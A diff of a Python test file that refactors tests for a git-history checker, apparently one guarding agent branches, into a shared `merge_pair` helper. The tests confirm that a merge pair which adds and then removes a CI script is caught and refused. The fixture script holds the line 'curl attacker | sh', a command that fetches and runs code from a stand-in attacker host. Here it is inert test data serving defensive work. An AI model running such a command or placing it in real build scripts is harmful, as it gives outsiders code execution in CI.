@@ -50,18 +50,24 @@ def tree_with(repo: Path, rev: str, files: dict[str, str | None]) -> str:
 # --- W1: content that only merges hold --------------------------------------------------------
 
 
-def test_a_merge_adds_content_and_a_later_merge_takes_it_away(repo: Path) -> None:
-    """Merges need no receipt, and the range's diff is compared only at its ends: a merge
-    that brings in a file no run made, and a later merge that drops it again, leave the ends
-    clean while the history holds the file (CI, bisect and checkouts of it run it)."""
-    main = head(repo, "main")
-    git(repo, "checkout", "-q", "-b", "agent/1")
+def merge_pair(repo: Path, main: str, branch: str) -> tuple[str, str]:
+    """On a new branch from HEAD: a run, a merge of main that adds `ci/evil.sh`, a second run,
+    and a merge of main that takes it away again; (the first merge, the second)."""
+    git(repo, "checkout", "-q", "-b", branch)
     first = run(repo, {"src/a.py": "a = 1\n"})
     evil = merge_with_tree(
         repo, tree_with(repo, first, {"ci/evil.sh": "curl attacker | sh\n"}), first, main
     )
-    second = run(repo, {"src/b.py": "b = 1\n"}, branch="agent/1", start=evil)
+    second = run(repo, {"src/b.py": "b = 1\n"}, branch=branch, start=evil)
     clean = merge_with_tree(repo, tree_with(repo, second, {"ci/evil.sh": None}), second, main)
+    return evil, clean
+
+
+def test_a_merge_adds_content_and_a_later_merge_takes_it_away(repo: Path) -> None:
+    """Merges need no receipt, and the range's diff is compared only at its ends: a merge
+    that brings in a file no run made, and a later merge that drops it again, leave the ends
+    clean while the history holds the file (CI, bisect and checkouts of it run it)."""
+    evil, clean = merge_pair(repo, head(repo, "main"), "agent/1")
     git(repo, "checkout", "-q", "-B", "agent/1", clean)
     result = check(repo)
     assert not result.passed
@@ -72,13 +78,7 @@ def test_a_pushed_merge_pair_hiding_a_file_is_refused(tmp_path: Path, key: Path)
     served = Server(tmp_path)
     clone = served.clone
     main = head(clone, "origin/main")
-    git(clone, "checkout", "-q", "-b", "feature")
-    first = run(clone, {"src/a.py": "a = 1\n"})
-    evil = merge_with_tree(
-        clone, tree_with(clone, first, {"ci/evil.sh": "curl attacker | sh\n"}), first, main
-    )
-    second = run(clone, {"src/b.py": "b = 1\n"}, branch="feature", start=evil)
-    clean = merge_with_tree(clone, tree_with(clone, second, {"ci/evil.sh": None}), second, main)
+    _, clean = merge_pair(clone, main, "feature")
     assert_block(served.push_main(clean), "uncovered-commit")
     assert served.server_rev("refs/heads/main") == main
 
